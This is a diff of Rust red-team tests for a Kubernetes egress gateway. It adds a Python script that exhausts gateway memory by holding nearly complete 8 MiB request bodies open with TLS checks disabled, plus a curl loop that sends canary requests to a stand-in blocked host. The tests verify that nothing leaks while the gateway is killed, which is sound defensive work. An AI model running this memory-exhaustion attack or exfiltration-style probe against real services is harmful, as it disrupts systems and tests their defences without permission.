@@ -1,4 +1,4 @@
-//! Red team, B20 and B26: gateways that are stopped and killed.
+//! Red team, B20 and B26: gateways that are stopped and killed, by somebody or for the memory that they take.
 
 use std::time::{Duration, Instant};
 
@@ -17,8 +17,7 @@ use ws_tests::{
     ws::Ws,
 };
 
-/// A gateway that is killed is what the kernel makes of one for which there is no memory left. What the clock's jumps would do is not
-/// shown here: a pod has the machine's clock, and its other programs go by it.
+/// What the clock's jumps would do is not shown here: a pod has the machine's clock, and its other programs go by it.
 #[tokio::test]
 #[ignore = "needs the lab"]
 async fn b26_without_a_gateway_that_works_nothing_gets_out() -> Result<()> {
@@ -138,11 +137,114 @@ async fn b20_b26_what_a_gateway_that_is_killed_let_pass_stays_spent() -> Result<
     .await
 }
 
+/// Sends bodies that are looked into, which a gateway has to keep until they are whole: all there is room for of one workspace, each but
+/// for its last byte. Prints how that ended.
+const HOLD: &str = r#"
+import os, socket, ssl, sys
+host, path = sys.argv[1:]
+address, port = os.environ["HTTPS_PROXY"].split("//")[1].split(":")
+context = ssl.create_default_context()
+context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+SIZE, BEGIN, held = 8 << 20, b'{"model": "m", "more": "', []
+
+def connect():
+    stream = socket.create_connection((address, int(port)), 20)
+    stream.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
+    head = b""
+    while not head.endswith(b"\r\n\r\n"):
+        byte = stream.recv(1)
+        if not byte:
+            raise OSError("it broke off")
+        head += byte
+    return context.wrap_socket(stream, server_hostname=host)
+
+try:
+    for _ in range(4):
+        held.append(connect())
+        head = f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: {SIZE}\r\n\r\n"
+        held[-1].sendall(head.encode() + BEGIN + b"x" * (SIZE - len(BEGIN) - 1))
+    print("answered" if held[0].recv(1) else "broke off")
+except OSError:
+    print("broke off")
+"#;
+
+#[tokio::test]
+#[ignore = "needs the lab"]
+async fn b26_a_gateway_that_runs_out_of_memory_lets_nothing_out() -> Result<()> {
+    // Twice what it has when it idles. With the bodies of one workspace it is three times as much.
+    const LITTLE: [&str; 4] = ["set", "resources", "--limits=memory=32Mi", "--requests=cpu=100m,memory=32Mi"];
+    let lab = Lab::running().await?;
+    let outcome = async {
+        change_gateways(&lab, &LITTLE).await?;
+        runs_out_of_memory().await
+    };
+    let outcome = outcome.await;
+    change_gateways(&lab, &["rollout", "undo"]).await?;
+    outcome
+}
+
+async fn runs_out_of_memory() -> Result<()> {
+    const HOST: &str = "api.example";
+    with_namespace(async |lab, namespace| {
+        let rules = json!([{"name": "api", "hosts": [HOST], "allow": [
+            {"methods": ["POST"], "paths": ["/upload/**"], "body": {"max": "8Mi", "json": {"required": ["model"]}}},
+        ]}]);
+        let class = class::create(lab, json!({"egress": {"rules": rules}})).await?;
+        let (ws, audit) = (Ws::new(lab, namespace)?, Audit::of(lab, namespace, "out"));
+        ws.run_in(Project::empty()?.path(), &["up", "--name", "out", "--class", &class, "--detach"])
+            .await?
+            .ok()?;
+        let (inspected, denied) = (canary()?, canary()?);
+        // The controls: what is whole gets out, before and after.
+        let gets_out = async || {
+            let page = canary()?;
+            let send = format!(
+                "curl -sS --max-time 5 https://{HOST}/upload/{page} -H 'Content-Type: application/json' -d '{{\"model\": \"m\"}}'"
+            );
+            eventually(PATIENCE, "a gateway that works", async || {
+                anyhow::Ok((ws.bash("out", &send).await?.stdout == "taken\n").then_some(()))
+            })
+            .await?;
+            ensure!(!lab.asked(&format!("/upload/{page}"))?.is_empty(), "the control arrives");
+            anyhow::Ok(())
+        };
+        gets_out().await?;
+        let path = format!("/upload/{inspected}");
+        let hold = ["attach", "out", "--", "python3", "-c", HOLD, HOST, &path];
+        let ask = format!(
+            "for _ in $(seq 20); do curl -s --max-time 1 https://hidden.example/{denied}; sleep 0.2; done; true"
+        );
+        let (sent, _) = tokio::try_join!(ws.run(&hold), ws.bash("out", &ask))?;
+        ensure!(sent.clone().ok()?.stdout == "broke off\n", "it has room for all of them: {sent}");
+        eventually(PATIENCE, "a gateway that was ended for its memory", async || {
+            let ended = "jsonpath={.items[*].status.containerStatuses[0].lastState.terminated.reason}";
+            let get = ["-n", lab.ws_namespace(), "get", "pods", "-l", GATEWAYS, "-o", ended];
+            let ended = lab.kubectl(&get).await?.ok()?.stdout;
+            ensure!(ended.contains("OOMKilled"), "{ended}");
+            anyhow::Ok(Some(()))
+        })
+        .await?;
+        gets_out().await?;
+        for page in [path, format!("/{denied}")] {
+            ensure!(lab.asked(&page)?.is_empty(), "it arrived: {:?}", lab.asked(&page)?);
+        }
+        ensure!(!lab.resolved()?.contains("hidden.example."), "a name was asked for");
+        audit.holds_none_of(&[]).await?;
+        class::delete(lab, &class).await
+    })
+    .await
+}
+
 /// Replaces the gateways, for the kubelet starts at once what has not been killed before.
 async fn new_gateways(lab: &Lab) -> Result<()> {
-    for command in [&["restart"][..], &["status", "--timeout=100s"]] {
-        let rollout = [&["-n", lab.ws_namespace(), "rollout"], command, &["deployment/ws-gateway"]].concat();
-        run(lab.kubectl_command(&rollout), Duration::from_mins(2)).await?.ok()?;
+    change_gateways(lab, &["rollout", "restart"]).await
+}
+
+/// Has kubectl change the gateways' Deployment, and waits until they are the new ones.
+async fn change_gateways(lab: &Lab, change: &[&str]) -> Result<()> {
+    for command in [change, &["rollout", "status", "--timeout=100s"]] {
+        let command = [&["-n", lab.ws_namespace()], command, &["deployment/ws-gateway"]].concat();
+        run(lab.kubectl_command(&command), Duration::from_mins(2)).await?.ok()?;
     }
     Ok(())
 }
